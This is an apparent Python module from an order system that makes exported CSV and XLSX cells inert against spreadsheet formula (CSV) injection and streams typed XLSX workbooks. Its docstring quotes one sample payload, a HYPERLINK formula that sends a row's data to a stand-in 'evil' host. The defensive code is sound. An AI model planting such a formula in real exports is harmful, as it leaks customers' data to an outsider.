"""Cells a spreadsheet program would run as formulas, made inert (OWASP "CSV injection").

Excel and LibreOffice treat a cell that starts with =, +, -, @ (or a tab or carriage return
before one of them) as a formula: `=HYPERLINK("http://evil/?"&A1,"click")` in a buyer's
address becomes a live link that leaks the row. OWASP's remedy is to prefix such a cell with a
single quote, which both programs show as text. Files for machines (Parquet, JSON) keep raw
values; every file OrderHub writes for a person passes its text columns through here.
"""

from __future__ import annotations

import re
import unicodedata
from decimal import Decimal
from typing import Any, BinaryIO

import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

# A leading tab or carriage return is what spreadsheet programs skip before reading a formula.
FORMULA_START = r"^[=+\-@\t\r]"
_FORMULA = re.compile(FORMULA_START)


def inert(value: object) -> object:
    """The cell as a spreadsheet program will show it as text: `=1+1` → `'=1+1`; non-text as is."""
    if isinstance(value, str) and _FORMULA.match(value):
        return "'" + value
    return value


def inert_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """inert() over every text column of a frame about to become a CSV for a person."""
    text = [name for name, dtype in frame.dtypes.items() if pd.api.types.is_string_dtype(dtype)]
    return frame.assign(**{str(name): frame[name].map(inert) for name in text}) if text else frame


def inert_column(column: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """inert() over an Arrow string column, vectorised; other types pass through."""
    if not pa.types.is_string(column.type) and not pa.types.is_large_string(column.type):
        return column
    return pc.replace_substring_regex(column, pattern=f"({FORMULA_START})", replacement="'\\1", max_replacements=1)


# A text cell a spreadsheet program would read as a number (a 19-digit order number, a phone, an
# SKU such as 0012) loses digits or zeros there: 3082612345678901234 shows as 3.08261E+18.
NUMBER_LIKE = r"^[0-9][0-9.,:/eE+\- ]*$"


def text_stays_text(column: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """A CSV text column whose number-like cells end in a tab, so spreadsheet programs keep them text.

    A CSV has no cell types. The tab is invisible, not a formula (unlike the ="…" wrapper, which
    LibreOffice shows literally unless told to evaluate formulas) and not at the start, where
    OWASP counts it as a formula lead-in; Excel and LibreOffice both leave "308…1234<TAB>" as text,
    and OrderHub's own import trims it away.
    """
    if not pa.types.is_string(column.type):
        return column
    return pc.replace_substring_regex(column, pattern=f"({NUMBER_LIKE})", replacement="\\1\t", max_replacements=1)


def for_csv(batch: pa.RecordBatch, for_people: bool) -> pa.RecordBatch:
    """A batch about to be written as CSV: no formula runs, and for people long numbers stay text."""
    columns = [inert_column(column) for column in batch.columns]
    if for_people:
        columns = [text_stays_text(column) for column in columns]
    return pa.RecordBatch.from_arrays(columns, schema=batch.schema)


# Characters XLSX cannot hold at all (openpyxl refuses them): control codes other than tab, LF, CR.
XLSX_ILLEGAL = r"[\x00-\x08\x0b\x0c\x0e-\x1f]"
XLSX_MAX_ROWS = 1_048_576  # a sheet's limit in Excel; a larger export goes on to the next sheet
MONEY_FORMAT = "0.00"
TIME_FORMAT = "yyyy-mm-dd hh:mm:ss"
SAMPLE_ROWS = 200  # rows of the first batch that decide the column widths


class XlsxWriter:
    """An XLSX workbook streamed row by row (openpyxl's write-only mode: no sheet held in memory).

    Cells keep their type: text as text (a 19-digit order number stays all digits), decimals as
    numbers shown with two decimals, times as dates, integers as numbers. Text is made inert as in
    a CSV, so no cell is ever a formula. The header row is bold and frozen; widths follow the
    header and the first rows. Same interface as pyarrow's CSV writer: write_batch(), close().
    """

    def __init__(self, sink: BinaryIO, schema: pa.Schema, title: str):
        self.sink, self.schema, self.title = sink, schema, title
        self.workbook = Workbook(write_only=True)
        self.sheet: Any = None
        self.sheets = self.rows_in_sheet = 0
        self.widths: list[float] = [_display_width(name) + 2 for name in schema.names]
        self.formats = [_number_format(field.type) for field in schema]

    def write_batch(self, batch: pa.RecordBatch) -> None:
        columns = [_clean(column).to_pylist() for column in batch.columns]
        if self.sheet is None:
            self._fit_widths(columns)
        for row in zip(*columns, strict=True):
            if self.sheet is None or self.rows_in_sheet == XLSX_MAX_ROWS:
                self._new_sheet()
            self.sheet.append([self._cell(value, form) for value, form in zip(row, self.formats, strict=True)])
            self.rows_in_sheet += 1

    def close(self) -> None:
        if self.sheet is None:
            self._new_sheet()  # an empty export still has its header
        self.workbook.save(self.sink)

    def _fit_widths(self, columns: list[list]) -> None:
        for i, values in enumerate(columns):
            shown = (_display_width(_shown(value)) for value in values[:SAMPLE_ROWS] if value is not None)
            self.widths[i] = min(60, max([self.widths[i], 10, *(width + 2 for width in shown)]))

    def _new_sheet(self) -> None:
        self.sheets += 1
        self.sheet = self.workbook.create_sheet(self.title if self.sheets == 1 else f"{self.title} ({self.sheets})")
        for i, width in enumerate(self.widths, start=1):
            self.sheet.column_dimensions[get_column_letter(i)].width = width
        self.sheet.freeze_panes = "A2"
        self.sheet.append([self._header(name) for name in self.schema.names])
        self.rows_in_sheet = 1

    def _header(self, name: str) -> WriteOnlyCell:
        cell = WriteOnlyCell(self.sheet, value=inert(name))
        cell.font = Font(bold=True)
        return cell

    def _cell(self, value: object, form: str | None) -> object:
        if value is None or form is None:
            return value
        cell = WriteOnlyCell(self.sheet, value=value)
        cell.number_format = form
        return cell


def _clean(column: pa.Array) -> pa.Array:
    """Text as an XLSX cell may hold it: inert, without the control codes the format forbids."""
    if not pa.types.is_string(column.type):
        return column
    return inert_column(pc.replace_substring_regex(column, pattern=XLSX_ILLEGAL, replacement=""))


def _number_format(kind: pa.DataType) -> str | None:
    if pa.types.is_decimal(kind):
        return MONEY_FORMAT
    if pa.types.is_timestamp(kind):
        return TIME_FORMAT
    return None


def _shown(value: object) -> str:
    return f"{value:.2f}" if isinstance(value, Decimal) else str(value)


def _display_width(text: str) -> int:
    """Columns of a monospaced grid the text takes: a Chinese character takes two."""
    return sum(2 if unicodedata.east_asian_width(char) in "WF" else 1 for char in text)
